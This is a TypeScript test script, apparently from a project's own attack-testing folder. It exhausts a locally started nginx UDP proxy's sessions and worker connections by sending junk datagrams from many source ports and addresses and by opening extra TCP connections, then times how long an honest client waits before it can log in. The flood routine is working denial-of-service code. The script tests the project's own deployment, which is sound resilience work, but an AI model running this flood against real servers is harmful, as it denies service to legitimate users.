/**
 * Round 30: the shipped nginx (deploy/nginx.conf) as a resource one client host fills.
 * nginx keeps one UDP session per client address and port for `proxy_timeout` (30 s) after
 * its last datagram, whatever the server answers, and each session takes two of the worker's
 * `worker_connections`. An attacker host sends one datagram from each of N source ports
 * (nothing rudp would answer, so the server spends nothing), then an honest client from
 * another host logs in through nginx: is it let in, and how long after the attacker stops?
 *
 * Usage: npx tsx attack/balancer-sessions.ts [ports=600,1200] [hosts=1] [tcp=0]
 *   ports: the attacker's source ports per host, per trial (a fresh nginx each trial);
 *   hosts: attacker addresses (a client that spoofs, or holds many addresses);
 *   tcp: also open that many TCP connections to nginx's transfer port from the attacker and
 *        count what an honest TCP connection then gets.
 */
import { createSocket } from 'node:dgram';
import { connect, type Socket as TcpSocket } from 'node:net';
import { clientAddressHere, findNginx, freeUdpTcpPort, startNginx } from '../scripts/cluster.mjs';
import { rawSession, sleep, startChurnServer } from './churn-lib.js';

const ATTACKER = '127.0.0.9';
const HONEST = '127.0.0.3';
const portsList = (process.argv[2] ?? '600,1200').split(',').map(Number);
const hostCount = Number(process.argv[3] ?? 1);
const tcpCount = Number(process.argv[4] ?? 0);

/** An honest login through nginx from HONEST: its time, or why not. */
const honestLogin = async (port: number, user: string): Promise<string> => {
  const t0 = performance.now();
  try {
    const s = await rawSession(port, HONEST);
    const r = await s.login(user, 'pw');
    const ms = Math.round(performance.now() - t0);
    s.conn.destroy();
    return r === undefined ? `no reply (${ms} ms)` : `${r.data.kind === 'auth' && r.data.next === 'command' ? 'logged in' : JSON.stringify(r.data)} in ${ms} ms`;
  } catch (e) {
    return `refused after ${Math.round(performance.now() - t0)} ms: ${e instanceof Error ? e.message : String(e)}`;
  }
};

/**
 * From each of `hosts` addresses (127.0.0.9, then 127.1.0.1 on, as a client that spoofs
 * sources or owns many addresses), `n` source ports each sending one 1,200-byte datagram of
 * junk to nginx; a host's sockets are closed once all have sent (nginx's sessions outlive them).
 */
const flood = async (port: number, n: number, hosts: number): Promise<void> => {
  const junk = Buffer.alloc(1200, 0x5a);
  for (let h = 0; h < hosts; h++) {
    const from = h === 0 ? ATTACKER : `127.1.${1 + (h >> 8)}.${1 + (h & 255)}`;
    // Bound one after another and kept open until the host is done: each a port of its own.
    const socks = [];
    for (let i = 0; i < n; i++) {
      const s = createSocket('udp4');
      await new Promise<void>((r) => s.bind(0, from, () => r()));
      await new Promise<void>((r) => s.send(junk, port, '127.0.0.1', () => r()));
      socks.push(s);
    }
    for (const s of socks) s.close();
  }
};

/** A TCP connection from `from` to nginx: what it read within 3 s, or how it ended. */
const tcpProbe = (port: number, from: string): Promise<string> =>
  new Promise((resolve) => {
    const s = connect({ port, host: '127.0.0.1', localAddress: from });
    const t0 = performance.now();
    const timer = setTimeout(() => (s.destroy(), resolve('open, silent for 3 s (waiting for a header: accepted)')), 3_000);
    s.on('data', () => undefined);
    s.once('close', () => (clearTimeout(timer), resolve(`closed after ${Math.round(performance.now() - t0)} ms`)));
    s.once('error', () => undefined);
  });

const main = async (): Promise<void> => {
  if (findNginx() === undefined) throw new Error('nginx is not installed');
  const mode = await clientAddressHere();
  console.log(`nginx mode: ${mode.mode}${mode.why === undefined ? '' : ` (${mode.why})`}`);
  for (const n of portsList) {
    const port = await freeUdpTcpPort();
    const server = await startChurnServer(port);
    const nginx = await startNginx({ servers: [{ port: server.port, tcpPort: server.tcp }] });
    try {
      console.log(`\n--- ${n} attacker ports (nginx on ${nginx.port}, server on ${server.port})`);
      console.log(`before: ${await honestLogin(nginx.port, 'before')}`);
      const t0 = performance.now();
      await flood(nginx.port, n, hostCount);
      const stopped = performance.now();
      console.log(`flood: ${n} datagrams from each of ${hostCount} hosts in ${Math.round(performance.now() - t0)} ms`);
      await sleep(300);
      console.log(`during: ${await honestLogin(nginx.port, 'during')}`);
      const tcp: TcpSocket[] = [];
      if (tcpCount > 0) {
        for (let i = 0; i < tcpCount; i++) {
          const c = connect({ port: nginx.port, host: '127.0.0.1', localAddress: ATTACKER });
          c.on('error', () => undefined);
          tcp.push(c);
        }
        await sleep(500);
        console.log(`tcp: after ${tcpCount} attacker connections, an honest one: ${await tcpProbe(nginx.port, HONEST)}`);
      }
      for (const c of tcp) c.destroy();
      // The sessions outlive the attacker's sockets: nginx times them out after proxy_timeout.
      for (;;) {
        const r = await honestLogin(nginx.port, `after${Math.round(performance.now() - stopped)}`);
        const s = ((performance.now() - stopped) / 1000).toFixed(1);
        console.log(`${s} s after the attacker's last datagram: ${r}`);
        if (r.includes('logged in') || performance.now() - stopped > 45_000) break;
        await sleep(3_000);
      }
      const log = nginx.log();
      const notEnough = log.match(/worker_connections are not enough/g)?.length ?? 0;
      const files = log.match(/Too many open files|setrlimit[^\n]*/g) ?? [];
      const limited = log.match(/limiting connections/g)?.length ?? 0;
      console.log(`nginx log: ${notEnough} "worker_connections are not enough", ${limited} "limiting connections", ${files.length} descriptor troubles ${files[0] ?? ''}; server log bytes ${server.logBytes}`);
    } finally {
      await nginx.stop();
      await server.stop();
    }
  }
};

await main();
